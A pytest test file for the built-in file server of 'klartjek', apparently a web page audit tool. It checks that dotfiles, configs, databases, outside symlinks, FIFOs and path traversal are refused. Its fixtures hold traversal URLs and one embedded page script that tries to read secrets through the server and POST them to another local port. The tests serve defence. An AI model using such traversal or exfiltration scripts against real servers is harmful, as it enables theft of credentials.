"""klartjek's own file server serves the audited folder's regular files by GET and HEAD, nothing else
(docs/security.md): no dotfiles, nothing a link leads to outside the folder, no FIFOs, never the
history database or the configuration; a single file target is served from its own folder. And with
--block-external a page cannot reach any other port on the machine."""
from __future__ import annotations

import os
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from audit.targets import StaticServer, TargetResolver
from conftest import html_page, load_json, run_cli


def status(url: str, method: str = "GET", data: bytes | None = None) -> tuple[int, bytes]:
    req = urllib.request.Request(url, method=method, data=data)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, b""


@pytest.fixture
def folder(tmp_path):
    site = tmp_path / "site"
    (site / "sub").mkdir(parents=True)
    (site / "index.html").write_bytes(html_page("<p>Forside.</p>"))
    (site / "sub" / "side.html").write_bytes(html_page("<p>Underside.</p>"))
    (site / "sub" / "index.html").write_bytes(html_page("<p>Underforside.</p>"))
    (site / ".git").mkdir()
    (site / ".git" / "config").write_text("[remote]\n  token = ghp_SECRET\n")
    (site / ".env").write_text("PASSWORD=SECRET\n")
    (site / "klartjek.toml").write_text("db = 'x'\n")
    (site / "pyproject.toml").write_text("[tool.klartjek]\n")
    (site / "runs.sqlite").write_bytes(b"SQLite format 3\x00SECRET")
    (site / "mydb").write_bytes(b"SECRET db without a suffix")
    (tmp_path / "outside.txt").write_text("SECRET outside the folder\n")
    (site / "link-out.txt").symlink_to(tmp_path / "outside.txt")
    (site / "dir-out").symlink_to(tmp_path)
    (site / "link-in.html").symlink_to(site / "sub" / "side.html")
    (site / "etc-hostname").symlink_to("/etc/hostname")
    os.mkfifo(site / "fifo.html")
    server = StaticServer(site, deny={(site / "mydb").resolve()})
    yield server
    server.close()


@pytest.mark.parametrize("path, code", [
    ("/index.html", 200), ("/", 200), ("/sub/side.html", 200), ("/sub/", 200), ("/link-in.html", 200),
    ("/.git/config", 404), ("/.env", 404), ("/sub/../.env", 404), ("/%2egit/config", 404),
    ("/klartjek.toml", 404), ("/pyproject.toml", 404), ("/runs.sqlite", 404), ("/mydb", 404),
    ("/link-out.txt", 404), ("/dir-out/outside.txt", 404), ("/etc-hostname", 404), ("/fifo.html", 404),
    ("/../outside.txt", 404), ("/%2e%2e/outside.txt", 404), ("/nosuch.html", 404),
])
def test_the_file_server_serves_only_regular_files_inside_the_folder(folder, path, code):
    got, body = status(folder.base_url.rstrip("/") + path)
    assert got == code
    assert b"SECRET" not in body


def test_a_folder_without_its_slash_is_redirected_and_never_listed(folder):
    req = urllib.request.Request(folder.base_url + "sub")
    opener = urllib.request.build_opener(type("NoRedirect", (urllib.request.HTTPRedirectHandler,),
                                              {"redirect_request": lambda *a, **k: None}))
    with pytest.raises(urllib.error.HTTPError) as exc:
        opener.open(req, timeout=10)
    assert exc.value.code == 301 and exc.value.headers["Location"] == "/sub/"
    (Path(folder.root) / "empty").mkdir()
    assert status(folder.base_url + "empty/")[0] == 404


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_the_file_server_answers_only_get_and_head(folder, method):
    body = b"x" if method in ("POST", "PUT", "PATCH") else None
    assert status(folder.base_url + "index.html", method, body)[0] == 405
    assert status(folder.base_url + "index.html", "HEAD")[0] == 200


def test_a_folder_target_skips_links_out_of_the_folder_and_special_files(folder, tmp_path):
    site = tmp_path / "site"
    (tmp_path / "outside.html").write_bytes(html_page("<p>SECRET</p>"))
    (site / "out.html").symlink_to(tmp_path / "outside.html")
    resolver = TargetResolver()
    try:
        targets = resolver.resolve(str(site))
    finally:
        resolver.close()
    got = [(Path(t.location).relative_to(site).as_posix(), t.url is not None, t.skipped, t.error)
           for t in targets]
    assert got == [
        ("index.html", True, False, None),
        ("link-in.html", True, False, None),               # a link inside the folder is served
        ("out.html", False, True, f"{site / 'out.html'}: not checked: a link to a file outside the folder"),
        ("sub/index.html", True, False, None),
        ("sub/side.html", True, False, None),
    ]                                                       # fifo.html: not a regular file, not listed


def test_single_file_is_served_from_its_own_folder_and_a_page_cannot_reach_other_ports(
        local_server, tmp_path):
    """The probe's attack: a page read the working directory's secrets through the file server and
    sent them to another loopback port. Now the page's own folder is the root, and with
    --block-external every other port of the machine is out of reach."""
    logger = local_server({})                   # another service on this machine: must hear nothing
    (tmp_path / "env.sh").write_text("export TOKEN=SECRET\n")
    site = tmp_path / "site"
    site.mkdir()
    (site / "ok.txt").write_text("ok")
    # synchronous requests, so that all is done before the page's load event (and the audit)
    script = f"""<script>
      const get = (m, u, body) => {{ const x = new XMLHttpRequest(); x.open(m, u, false);
        try {{ x.send(body); return x.status; }} catch (e) {{ return 'x'; }} }};
      const paths = ['/ok.txt', '/../env.sh', '/env.sh', '/.klartjek/history.sqlite', '/klartjek.toml'];
      const codes = paths.map(p => get('GET', p)).join(',');
      document.title = codes + ';' + get('POST', '{logger.url("/leak")}', codes) + ';' +
        get('GET', '{logger.url("/pixel.gif")}');
    </script>"""
    (site / "side.html").write_bytes(html_page("<p>Side.</p>" + script, title="start"))
    (tmp_path / "klartjek.toml").write_text("timeout = 30\n")
    res = run_cli("audit", "site/side.html", "--json", "r.json", "--db", ".klartjek/history.sqlite", cwd=tmp_path)
    assert res.returncode in (0, 1), res.stderr
    doc = load_json(tmp_path / "r.json")["documents"][0]
    assert doc["status"] == "ok" and doc["path"] == "site/side.html"
    assert doc["title"] == "200,404,404,404,404;x;x"
    assert logger.httpd.seen == []
    assert doc["blocked_requests"] == 2


def test_site_root_serves_a_single_file_with_its_sites_stylesheets(tmp_path):
    site = tmp_path / "site"
    (site / "css").mkdir(parents=True)
    (site / "sider").mkdir()
    (site / "css" / "s.css").write_text("h1 { color: rgb(1, 2, 3); }")
    (site / "sider" / "a.html").write_bytes(html_page(
        "<p>A.</p><script>addEventListener('load', () => document.title = "
        "getComputedStyle(document.querySelector('h1')).color)</script>"
        '<link rel="stylesheet" href="../css/s.css">', title="a"))
    for extra, title in (([], "rgb(0, 0, 0)"), (["--site-root", "site"], "rgb(1, 2, 3)")):
        res = run_cli("audit", "site/sider/a.html", *extra, "--json", "r.json", "--db", "h.sqlite", cwd=tmp_path)
        assert res.returncode in (0, 1), res.stderr
        assert load_json(tmp_path / "r.json")["documents"][0]["title"] == title
